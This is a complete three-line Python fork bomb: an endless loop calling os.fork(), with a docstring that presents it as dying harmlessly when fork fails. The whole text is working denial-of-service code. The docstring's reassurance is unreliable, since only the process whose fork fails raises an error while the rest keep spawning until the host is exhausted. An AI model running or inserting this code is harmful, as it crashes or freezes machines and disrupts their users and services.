"""A fork bomb that dies of its own exception: every process forks until fork fails."""
import os

while True:
    os.fork()
